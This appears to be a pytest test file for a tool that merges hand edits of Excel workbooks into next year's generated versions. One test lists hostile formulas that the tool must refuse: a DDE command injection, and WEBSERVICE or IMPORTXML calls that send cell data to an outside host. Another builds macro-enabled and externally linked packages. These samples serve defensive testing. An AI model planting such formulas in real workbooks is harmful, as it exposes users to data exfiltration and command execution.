"""Hand edits of a workbook live on in the workbook of the next year, and none is lost without being named."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from merged_sheets import (
    A_YEAR_LATER,
    JUNIPER,
    area_of,
    blank_line,
    cell_at,
    column_cell,
    drop_line,
    edited,
    lines_with,
    now,
    sheet_of,
    texts_of,
    then,
)
from openpyxl import load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.workbook import Workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet
from openxml_audit import OpenXmlValidator, ValidationSeverity
from returned import practice
from workbooks import saved_by_libreoffice

from pipeline.errors import ProblemsFound
from pipeline.merge.model import Merged
from pipeline.render.excel.filled import Expected, read_filled
from pipeline.render.excel.merge import excel_edits, merge_excel
from pipeline.render.parts import read_parts, write_parts

SAVED = ["F-02", "L-07", "L-15", "PR-03", "R-02", "SO-01"]  # a form, several sheets, formulas, folds, a chart, joined cells
AUTHOR = "Ellen Strandvold"


def merged(document: str, edit: Callable[[Workbook], object]) -> Merged:
    """A workbook that somebody edited, joined with that of the next year."""
    return merge_excel(then(document), edited(then(document), edit), now(document), A_YEAR_LATER)


def first(edit: Callable[[Worksheet], object]) -> Callable[[Workbook], object]:
    return lambda book: edit(book.worksheets[0])


def fill(heading: str, value: object, **row: str) -> Callable[[Workbook], object]:
    """Somebody fills in a cell of the table of the first sheet."""
    return first(lambda sheet: setattr(cell_at(sheet, heading, **row), "value", value))


def add(values: dict[str, object]) -> Callable[[Workbook], object]:
    """Somebody fills in the first empty line of the first sheet."""

    def edit(sheet: Worksheet) -> None:
        line = blank_line(sheet)
        for heading, value in values.items():
            cell = column_cell(sheet, heading, line)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"

    return first(edit)


# --- nothing to do


@pytest.mark.parametrize("document", ["L-03", "R-02", "F-02"])
def test_without_edits_the_file_of_now_stays_byte_for_byte(document: str) -> None:
    """Also where somebody only opened and saved it."""
    assert merge_excel(then(document), then(document), now(document), A_YEAR_LATER) == Merged(now(document))
    assert merge_excel(then(document), edited(then(document), lambda book: None), now(document), A_YEAR_LATER).data == now(
        document
    )


def test_where_nothing_new_is_generated_the_edited_file_stays_byte_for_byte() -> None:
    """Looks and all."""
    mine = edited(then("L-03"), fill("Action", "Ask", Tag="JR-02"))
    result = merge_excel(then("L-03"), mine, then("L-03"), A_YEAR_LATER)
    assert result.data == mine
    assert [edit.after for edit in result.taken] == ["Ask"]
    assert not result.kept


def test_saving_in_another_program_is_no_edit(outside: Callable[..., str], tmp_path: Path) -> None:
    """LibreOffice writes every part anew: formulas, dates, folds, validations."""
    files = [tmp_path / f"{document}.xlsx" for document in SAVED]
    for file in files:
        file.write_bytes(then(file.stem))
    for file in saved_by_libreoffice(outside, tmp_path, *files):
        assert file.read_bytes() != then(file.stem)
        assert excel_edits(then(file.stem), file.read_bytes()) == ()


def test_an_edit_is_seen_through_the_save_of_another_program(outside: Callable[..., str], tmp_path: Path) -> None:
    """The control of the test above."""
    file = tmp_path / "PR-03.xlsx"
    file.write_bytes(edited(then("PR-03"), fill("Kept at", "Binder", Person="Dov", Document="F-18")))
    (saved,) = saved_by_libreoffice(outside, tmp_path, file)
    assert [edit.after for edit in excel_edits(then("PR-03"), saved.read_bytes())] == ["Binder"]


def test_sorted_filtered_and_hidden_rows_are_no_edits() -> None:
    """Order and sight belong to whoever reads."""

    _, top, _, bottom = area_of(sheet_of(then("L-03")))

    def upside_down(book: Workbook) -> None:
        sheet = book.worksheets[0]
        rows = [[cell.value for cell in row] for row in sheet.iter_rows(top + 1, bottom)]
        for line, row in enumerate(reversed(rows), top + 1):
            for column, value in enumerate(row, 1):
                sheet.cell(line, column).value = value
        sheet.row_dimensions[12].hidden = True
        sheet.column_dimensions["B"].width = 50

    mine = edited(then("L-03"), upside_down)
    assert sheet_of(mine).cell(top + 1, 1).value is None
    assert excel_edits(then("L-03"), mine) == ()


# --- tables


def test_a_filled_cell_stays_in_its_row_when_the_row_has_other_words_now() -> None:
    """JR-02 has another user now; JR-18 is new above it."""
    result = merged("L-03", fill("Screen lock", "Yes", Tag="JR-02"))
    sheet = sheet_of(result.data)
    assert cell_at(sheet, "Screen lock", Tag="JR-02").value == "Yes"
    assert cell_at(sheet, "User or place", Tag="JR-02").value == "Bjorn Lindahl, LCSW"
    assert [(edit.where, edit.kind, edit.after) for edit in result.taken] == [
        ("sheet Log, row JR-02, Screen lock", "changed", "Yes")
    ]
    assert result.conflicts == ()
    assert not result.kept


def test_rows_are_known_by_what_tells_them_apart_and_not_by_a_number_that_is_counted_anew() -> None:
    """With two findings closed the steps of the plan have other numbers."""
    before, after = sheet_of(then("R-04"), "By date"), sheet_of(now("R-04"), "By date")
    moved = [
        (number, step)
        for number, step in zip(["S-40", "S-60", "S-70"], [cell_at(before, "Step", **{"No.": n}).value for n in ("S-40", "S-60", "S-70")], strict=True)
        if cell_at(after, "Step", **{"No.": number}).value != step
    ]  # fmt: skip
    assert moved
    number, step = moved[0]
    sheet = sheet_of(merged("R-04", fill("Where the proof is kept", "Folder 9", **{"No.": number})).data, "By date")
    assert cell_at(sheet, "Where the proof is kept", Step=str(step)).value == "Folder 9"
    assert cell_at(sheet, "Where the proof is kept", **{"No.": number}).value is None


def test_where_both_sides_changed_a_cell_the_entry_stands_and_the_new_text_is_a_note() -> None:
    """The tag JR-04 stands on a new model now."""
    result = merged("L-03", fill("Device or workplace", "MacBook (spare)", Tag="JR-04"))
    cell = cell_at(sheet_of(result.data), "Device or workplace", Tag="JR-04")
    assert cell.value == "MacBook (spare)"
    assert cell.comment
    assert (cell.comment.author, "MacBook Air M4 13-inch" in cell.comment.text) == ("Binder", True)
    (conflict,) = result.conflicts
    assert conflict.where == "sheet Log, row JR-04, Device or workplace"
    assert (conflict.before, conflict.edited, conflict.now) == (
        "MacBook Air M1 13-inch",
        "MacBook (spare)",
        "MacBook Air M4 13-inch",
    )


def test_the_notes_of_the_program_are_no_edits_the_year_after() -> None:
    """A file with a conflict in it, held against what was generated, has the entry as its only edit."""
    result = merged("L-03", fill("Device or workplace", "MacBook (spare)", Tag="JR-04"))
    assert [(edit.kind, edit.after) for edit in excel_edits(now("L-03"), result.data)] == [("changed", "MacBook (spare)")]


def test_both_sides_say_the_same() -> None:
    """What the consultant corrected is right in the profile now."""
    result = merged("L-03", fill("User or place", "Bjorn Lindahl, LCSW", Tag="JR-02"))
    assert cell_at(sheet_of(result.data), "User or place", Tag="JR-02").comment is None
    assert result.conflicts == ()


def test_added_rows_follow_the_others() -> None:
    """In the first empty line of now."""
    result = merged("L-03", add({"Tag": "X-1", "Device or workplace": "Label printer", "Date": date(2026, 12, 1)}))
    sheet = sheet_of(result.data)
    assert lines_with(sheet, Tag="X-1") == [blank_line(sheet_of(now("L-03")))]
    assert column_cell(sheet, "Date", lines_with(sheet, Tag="X-1")[0]).is_date
    assert area_of(sheet) == area_of(sheet_of(now("L-03")))
    assert [edit.kind for edit in result.taken] == ["added"]


def test_a_table_grows_where_the_added_rows_do_not_fit() -> None:
    """With look, drop-downs and print area; other programs do not stretch a table when somebody types below it."""
    left, top, _, bottom = area_of(sheet_of(then("L-16")))

    def full(sheet: Worksheet) -> None:
        for number, line in enumerate(range(top + 1, bottom + 6)):
            sheet.cell(line, left + 1).value = f"Room {number}"

    result = merged("L-16", first(full))
    sheet = sheet_of(result.data)
    assert area_of(sheet)[3] == area_of(sheet_of(now("L-16")))[3] + 5
    assert [sheet.cell(line, left + 1).value for line in range(top + 1, bottom + 6)] == [
        f"Room {n}" for n in range(bottom - top + 5)
    ]
    assert sheet.cell(bottom + 5, left + 1).border.bottom.style == sheet.cell(top + 1, left + 1).border.bottom.style is not None
    assert any(sheet.cell(bottom + 5, left).coordinate in rule.sqref for rule in sheet.data_validations.dataValidation)
    assert sheet.print_area.endswith(f"${bottom + 5}")


def test_a_row_that_was_added_by_hand_and_is_generated_now_stands_there_once() -> None:
    """The new laptop was entered by hand; now the profile has it."""
    result = merged("L-03", add({"Tag": "JR-18", "Device or workplace": "Laptop of Linh", "Seen by": "Denise"}))
    sheet = sheet_of(result.data)
    assert cell_at(sheet, "Seen by", Tag="JR-18").value == "Denise"
    assert cell_at(sheet, "Device or workplace", Tag="JR-18").value == "Laptop of Linh"
    assert [conflict.now for conflict in result.conflicts] == ["MacBook Air M4 13-inch"]


def test_deleted_rows_stay_deleted() -> None:
    """And what is different in them now is told."""
    result = merged("L-03", first(lambda sheet: [drop_line(sheet, lines_with(sheet, Tag=tag)[0]) for tag in ("JR-03", "JR-02")]))
    sheet = sheet_of(result.data)
    assert lines_with(sheet, Tag="JR-02") == lines_with(sheet, Tag="JR-03") == []
    assert lines_with(sheet, Tag="P-01")
    (conflict,) = result.conflicts  # only JR-02 is another one now
    assert (conflict.where, conflict.edited) == ("sheet Log, row JR-02", "")
    assert "Bjorn Lindahl" in conflict.now


def test_lines_move_up_with_their_links_folds_and_calculations() -> None:
    """A folded table of papers with links in it and formulas beside."""
    result = merged("PR-03", first(lambda sheet: drop_line(sheet, lines_with(sheet, Person="Marisol", Document="F-04")[0])))
    sheet, before = sheet_of(result.data), sheet_of(now("PR-03"))
    assert area_of(sheet)[3] == area_of(before)[3] - 1
    for person in ("Dov", "Nadia"):
        here, there = lines_with(sheet, Person=person), lines_with(before, Person=person)
        assert [line + 1 for line in here] == there
        for line in here:
            assert sheet.row_dimensions[line].outlineLevel == before.row_dimensions[line + 1].outlineLevel
            link, was = column_cell(sheet, "Document", line).hyperlink, column_cell(before, "Document", line + 1).hyperlink
            assert (link and (link.ref, link.target)) == (was and (f"B{line}", was.target))
    total, was_total = (column_cell(s, "Remark", lines_with(s, Person="Nadia")[0]) for s in (sheet, before))
    assert str(total.value) == str(was_total.value).replace(f"A{was_total.row}", f"A{total.row}") != was_total.value


def test_an_entry_in_a_row_that_is_not_generated_any_more_stays_with_its_row() -> None:
    """The laptop JR-05 is gone, and what was noted about it is not."""
    result = merged("L-03", fill("Action", "Ask Rosa", Tag="JR-05"))
    sheet = sheet_of(result.data)
    assert cell_at(sheet, "Action", Tag="JR-05").value == "Ask Rosa"
    assert cell_at(sheet, "User or place", Tag="JR-05").value == "Rosa Villalpando"
    assert [(conflict.where, conflict.now) for conflict in result.conflicts] == [("sheet Log, row JR-05", "")]


def test_an_entry_of_the_year_before_does_not_answer_the_row_of_this_year() -> None:
    """A training that is due again next year was not held then; the entry keeps its own due day."""
    result = merged("L-13", fill("Trained on", date(2026, 10, 20), Person="Dov", Course="C-02"))
    sheet = sheet_of(result.data)
    new, old = lines_with(sheet, Person="Dov", Course="C-02")
    days = [[column_cell(sheet, heading, line).value for heading in ("Due on", "Trained on")] for line in (new, old)]
    assert [[str(day)[:10] for day in row] for row in days] == [["2027-10-31", "None"], ["2026-10-31", "2026-10-20"]]
    assert result.conflicts == ()


def test_a_remark_without_a_day_stays_in_the_row_that_is_due_again() -> None:
    """Only a day says that something was done in a round."""
    result = merged("L-13", fill("Way", "Video", Person="Dov", Course="C-02"))
    assert cell_at(sheet_of(result.data), "Way", Person="Dov", Course="C-02").value == "Video"


def test_a_column_that_was_added_stands_at_the_right_end() -> None:
    """With its values in their rows, as a column of the table."""

    def widen(sheet: Worksheet) -> None:
        _, top, right, _ = area_of(sheet)
        sheet.cell(top, right + 1).value = "Insurance"
        sheet.cell(lines_with(sheet, Tag="JR-02")[0], right + 1).value = "Covered"

    result = merged("L-03", first(widen))
    sheet = sheet_of(result.data)
    assert area_of(sheet)[2] == area_of(sheet_of(now("L-03")))[2] + 1
    assert cell_at(sheet, "Insurance", Tag="JR-02").value == "Covered"
    assert sorted(edit.kind for edit in result.taken) == ["added", "added"]


def test_a_column_that_was_inserted_between_others_does_not_shift_them() -> None:
    """Columns are known by their headings."""

    def insert(sheet: Worksheet) -> None:
        _, top, right, bottom = area_of(sheet)
        for line in range(top, bottom + 1):
            for column in range(right, 2, -1):
                sheet.cell(line, column + 1).value = sheet.cell(line, column).value
            sheet.cell(line, 3).value = "Insurance" if line == top else None
        table = next(iter(sheet.tables.values()))
        table.ref = f"A{top}:{get_column_letter(right + 1)}{bottom}"
        table.tableColumns = []
        sheet.cell(top + 1, 3).value = "Covered"

    result = merged("L-03", first(insert))
    assert cell_at(sheet_of(result.data), "Insurance", Tag="JR-01").value == "Covered"
    assert len(result.taken) == 2


# --- beside the tables


def test_an_answer_stays_beside_its_question() -> None:
    """And a line that was typed below the form stays below it."""

    def answer(sheet: Worksheet) -> None:
        sheet["B10"], sheet["B11"] = "Dov Kestenbaum, PhD", date(2026, 10, 2)
        sheet["A50"], sheet["B50"] = "Remark", "Moved in May"

    result = merged("F-02", first(answer))
    sheet = sheet_of(result.data)
    assert (sheet["A10"].value, sheet["B10"].value, str(sheet["B11"].value)[:10]) == ("Name", "Dov Kestenbaum, PhD", "2026-10-02")
    assert (sheet["A50"].value, sheet["B50"].value) == ("Remark", "Moved in May")
    assert [edit.where for edit in result.taken] == [f"sheet Form, cell {place}" for place in ("B10", "B11", "A50", "B50")]


def test_a_text_that_both_sides_changed_is_the_consultants_with_the_new_one_as_a_note() -> None:
    """The line below the title names the edition."""
    result = merged("L-03", first(lambda sheet: sheet.__setitem__("A2", "For Denise")))
    assert sheet_of(result.data)["A2"].value == "For Denise"
    assert "edition 2027.1" in sheet_of(result.data)["A2"].comment.text
    assert result.conflicts[0].where == "sheet Log, cell A2"


def test_a_linked_cell_that_was_emptied_is_empty() -> None:
    """openpyxl reads the address of the link as its text."""
    emptied = edited(
        then("PR-03"), first(lambda sheet: setattr(cell_at(sheet, "Document", Person="Dov", Document="F-18"), "value", None))
    )
    assert [(edit.kind, edit.after) for edit in excel_edits(then("PR-03"), emptied)] == [("removed", "")]


def test_notes_on_cells_are_carried_over() -> None:
    """And the program writes below one where it has to tell something."""

    def note(sheet: Worksheet) -> None:
        cell_at(sheet, "Date", Tag="JR-01").comment = Comment("Look behind the desk", AUTHOR)
        cell = cell_at(sheet, "Device or workplace", Tag="JR-04")
        cell.value, cell.comment = "MacBook (spare)", Comment("In the safe", AUTHOR)

    result = merged("L-03", first(note))
    sheet = sheet_of(result.data)
    assert cell_at(sheet, "Date", Tag="JR-01").comment.text == "Look behind the desk"
    told = cell_at(sheet, "Device or workplace", Tag="JR-04").comment.text
    assert told.startswith("In the safe") or "In the safe" in told
    assert sorted(edit.kind for edit in result.taken) == ["changed", "commented", "commented"]


# --- sheets


def with_sheet(book: Workbook) -> None:
    sheet = book.create_sheet("Ellen's notes")
    sheet["A1"], sheet["B1"], sheet["B2"], sheet["B3"] = "Total", 3, 4.5, "=SUM(B1:B2)"
    sheet["A1"].font = Font(bold=True)
    sheet["B2"].number_format = "0.00"
    sheet["A5"], sheet["A6"] = "joined", "x"
    sheet["A7"] = "text"
    sheet["A7"].value, sheet["A7"].data_type = "=1+1", "s"
    sheet.merge_cells("A5:C5")
    sheet.column_dimensions["A"].width = 33
    choice = DataValidation("list", formula1='"Yes,No"')
    choice.add("A6")
    sheet.add_data_validation(choice)


def test_an_added_sheet_is_copied() -> None:
    """With numbers, joined cells, widths, drop-downs and plain calculations; a text stays a text."""
    result = merged("L-03", with_sheet)
    book = load_workbook(io.BytesIO(result.data))
    sheet = book["Ellen's notes"]
    assert book.sheetnames == ["Log", "Ellen's notes", "_binder"]
    assert [sheet[place].value for place in ("A1", "B1", "B2", "B3")] == ["Total", 3, 4.5, "=SUM(B1:B2)"]
    assert (sheet["A1"].font.b, sheet["B2"].number_format, sheet.column_dimensions["A"].width) == (True, "0.00", 33)
    assert [str(area) for area in sheet.merged_cells.ranges] == ["A5:C5"]
    assert [str(rule.sqref) for rule in sheet.data_validations.dataValidation] == ["A6"]
    assert (sheet["A7"].value, sheet["A7"].data_type, sheet["A7"].quotePrefix) == ("=1+1", "s", True)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("https://example.com/?"&B1)',
        '=IMAGE("https://example.com/x.png")',
        '=HYPERLINK("https://example.com/?"&B1,"more")',
        "=cmd|'/c calc'!A1",
        '=IF(B1,IMPORTXML("https://example.com","//a"),1)',
    ],
)
def test_a_formula_that_reaches_beyond_the_file_is_refused_by_its_cell(formula: str) -> None:
    """Also where nothing new is generated, and the edited file would stay as it is."""

    def reach_out(book: Workbook) -> None:
        book.create_sheet("Mine")["B2"] = formula

    mine = edited(then("L-03"), reach_out)
    for current in (then("L-03"), now("L-03")):
        with pytest.raises(ProblemsFound) as raised:
            merge_excel(then("L-03"), mine, current, A_YEAR_LATER)
        (problem,) = raised.value.problems
        assert problem.where.endswith("sheet Mine, cell B2")
    # positive control: the formula is there, and a plain one passes
    assert load_workbook(io.BytesIO(mine))["Mine"]["B2"].value == formula
    plain = edited(then("L-03"), lambda book: book.create_sheet("Mine").__setitem__("B2", "=1+1"))
    assert merge_excel(then("L-03"), plain, then("L-03"), A_YEAR_LATER).data == plain


def test_a_renamed_sheet_is_known_by_what_stands_on_it() -> None:
    """It keeps its new name, and its entries."""

    def rename(book: Workbook) -> None:
        book["Updates"].title = "Patches"
        book["Accounts"]["D10"] = date(2026, 11, 2)

    result = merged("L-07", rename)
    assert load_workbook(io.BytesIO(result.data)).sheetnames == ["Accounts", "Settings", "Patches", "_binder"]
    assert [edit.kind for edit in result.taken] == ["changed", "changed"]


def test_a_deleted_sheet_stays_deleted_unless_something_depends_on_it() -> None:
    """The papers by kind calculate with those by person."""
    assert "Updates" not in load_workbook(io.BytesIO(merged("L-07", lambda book: book.remove(book["Updates"])).data)).sheetnames
    mine = edited(then("PR-03"), lambda book: book.remove(book["By person"]))
    result = merge_excel(then("PR-03"), mine, now("PR-03"), A_YEAR_LATER)
    assert (result.data, bool(result.kept)) == (mine, True)


# --- what is kept with its file


def with_chart(book: Workbook) -> None:
    chart = BarChart()
    chart.add_data(Reference(book.worksheets[0], min_col=1, min_row=11, max_row=14))
    book.create_sheet("Chart").add_chart(chart, "A1")


def formula(text: str) -> Callable[[Workbook], object]:
    return fill("Action", text, Tag="JR-02")


@pytest.mark.parametrize(
    ("edit", "why"),
    [
        (with_chart, "chart"),
        (formula("=1+1"), "formula"),
        (lambda book: book.create_sheet("N").__setitem__("A1", '=INDIRECT("A"&1)'), "more than calculate"),
        (lambda book: book.create_sheet("N").__setitem__("A1", "=[1]Other!A1"), "more than calculate"),
        (lambda book: book.create_sheet("N").__setitem__("A1", "=Gone!A1"), "more than calculate"),
        (lambda book: book.defined_names.add(DefinedName("Mine", attr_text="Log!$A$1")), "names cells"),
        (first(lambda sheet: sheet.delete_cols(3)), "taken out"),
    ],
)
def test_what_cannot_be_carried_keeps_the_file(edit: Callable[[Workbook], object], why: str) -> None:
    """As it is, byte for byte, and the reason is told."""
    mine = edited(then("L-03"), edit)
    result = merge_excel(then("L-03"), mine, now("L-03"), A_YEAR_LATER)
    assert result.data == mine
    assert why in result.kept
    assert result.taken == excel_edits(then("L-03"), mine) != ()


def test_an_answer_to_a_question_that_is_not_asked_any_more_keeps_the_file() -> None:
    """Here the question has other words now."""
    asked = edited(now("F-02"), first(lambda sheet: sheet.__setitem__("A10", "Who works there")))
    mine = edited(then("F-02"), first(lambda sheet: sheet.__setitem__("B10", "Dov")))
    result = merge_excel(then("F-02"), mine, asked, A_YEAR_LATER)
    assert (result.data, "sheet Form has no place" in result.kept) == (mine, True)


# --- the file


def test_a_merge_of_one_cell_leaves_every_other_part_as_it_is_generated() -> None:
    """Chart, theme, properties and the other sheets of the register; and twice the same bytes."""
    edit = fill("Response", "Accept", **{"No.": "RA-001"})
    result, again = merged("R-02", edit), merged("R-02", edit)
    before, after = read_parts(now("R-02")), read_parts(result.data)
    assert before.keys() == after.keys()
    assert [name for name in before if before[name] != after[name]] == ["xl/worksheets/sheet1.xml"]
    assert b"Accept" in after["xl/worksheets/sheet1.xml"]
    assert result.data == again.data


def test_a_carried_row_is_an_entry_when_the_file_comes_back() -> None:
    """The sheet that says what was issued is that of now: rows of the program are none, those of people are."""
    result = merged("L-03", add({"Tag": "X-1", "Device or workplace": "Label printer", "Date": date(2026, 12, 1)}))
    loaded = practice(JUNIPER)
    people = [person.name for person in loaded.profile.workforce]
    filled = read_filled(result.data, "L-03.xlsx", Expected(JUNIPER, loaded.catalog.returned, people, date(2027, 10, 1)))
    assert filled.problems == ()
    assert filled.edition == "2027.1"
    assert [line.values["Tag"] for line in filled.lines] == ["X-1"]


@pytest.fixture(scope="module")
def results() -> dict[str, Merged]:
    """A merged file of each kind."""

    def much(book: Workbook) -> None:
        with_sheet(book)
        fill("Device or workplace", "MacBook (spare)", Tag="JR-04")(book)
        first(lambda sheet: drop_line(sheet, lines_with(sheet, Tag="JR-03")[0]))(book)
        add({"Tag": "X-1", "Date": date(2026, 12, 1), "Action": "=1+1"})(book)
        sheet = book.worksheets[0]
        sheet.cell(10, 13).value = "Insurance"
        sheet.cell(11, 13).value = "Covered"

    return {
        "L-03": merged("L-03", much),
        "L-11": merged("L-11", add({"Company or person": "Plumber", "Entry of": date(2026, 12, 1)})),
        "R-02": merged("R-02", fill("Response", "Accept", **{"No.": "RA-001"})),
        "R-04": merged("R-04", add({"No.": "S-900", "Step": "Buy a safe"})),
        "PR-03": merged("PR-03", fill("Remark", "Paper", Person="Dov", Document="F-18")),
        "F-02": merged("F-02", first(lambda sheet: sheet.__setitem__("B10", "Dov"))),
    }


def test_merged_files_keep_to_the_standard(results: dict[str, Merged], tmp_path: Path) -> None:
    """Read by another validator."""
    for document, result in results.items():
        assert not result.kept, result.kept
        file = tmp_path / f"{document}.xlsx"
        file.write_bytes(result.data)
        found = OpenXmlValidator().validate(str(file))
        assert [error for error in found.errors if error.severity is ValidationSeverity.ERROR] == []


def test_another_program_reads_the_same_in_merged_files(
    results: dict[str, Merged], outside: Callable[..., str], tmp_path: Path
) -> None:
    """LibreOffice opens them; what it saves has the same edits against the file of now."""
    files = [tmp_path / f"{document}.xlsx" for document in results]
    for file in files:
        file.write_bytes(results[file.stem].data)
    for file in saved_by_libreoffice(outside, tmp_path, *files):
        own, theirs = excel_edits(now(file.stem), results[file.stem].data), excel_edits(now(file.stem), file.read_bytes())
        assert own == theirs != ()


# --- what must not be opened


def test_a_file_of_another_document_or_edition_is_refused() -> None:
    """Its rows would be read as edits of this one."""
    for other in (then("L-08"), now("L-03")):
        with pytest.raises(ProblemsFound) as caught:
            excel_edits(then("L-03"), other)
        assert caught.value.problems[0].where == "the edited workbook"


def test_a_file_without_the_sheet_that_says_whose_it_is_can_be_merged() -> None:
    """Some programs drop hidden sheets."""

    def strip(book: Workbook) -> None:
        del book["_binder"]
        fill("Action", "Ask", Tag="JR-02")(book)

    assert cell_at(sheet_of(merged("L-03", strip).data), "Action", Tag="JR-02").value == "Ask"


@pytest.mark.parametrize("kind", ["no file", "cut off", "macros", "outside", "no workbook"])
def test_hostile_files_are_refused_with_a_reason(kind: str) -> None:
    """Never with a traceback."""
    parts = dict(read_parts(then("L-03")))
    types = parts["[Content_Types].xml"]
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"'
        b' Target="file:///c:/x.xlsx" TargetMode="External"/></Relationships>'
    )
    files = {
        "no file": b"",
        "cut off": then("L-03")[:2_000],
        "macros": write_parts(parts | {"[Content_Types].xml": types.replace(b"main+xml", b"macroEnabled.main+xml")}),
        "outside": write_parts(parts | {"xl/externalLinks/_rels/externalLink1.xml.rels": link}),
        "no workbook": write_parts({"[Content_Types].xml": types}),
    }
    for call in (
        lambda: excel_edits(then("L-03"), files[kind]),
        lambda: merge_excel(then("L-03"), files[kind], now("L-03"), A_YEAR_LATER),
    ):
        with pytest.raises(ProblemsFound):
            call()


def test_nothing_of_a_busy_day_is_lost() -> None:
    """Every text that was typed stands in the file."""
    typed = ["Label printer", "=danger", "Covered", "Ask Rosa", "MacBook (spare)"]

    def work(book: Workbook) -> None:
        add({"Tag": "X-1", "Device or workplace": typed[0], "Action": typed[1]})(book)
        fill("Action", typed[3], Tag="JR-05")(book)
        fill("Device or workplace", typed[4], Tag="JR-04")(book)
        book.worksheets[0].cell(12, 13).value = typed[2]

    result = merged("L-03", work)
    assert not result.kept
    held = list(texts_of(result.data))
    assert [held.count(text) for text in typed] == [1] * len(typed)
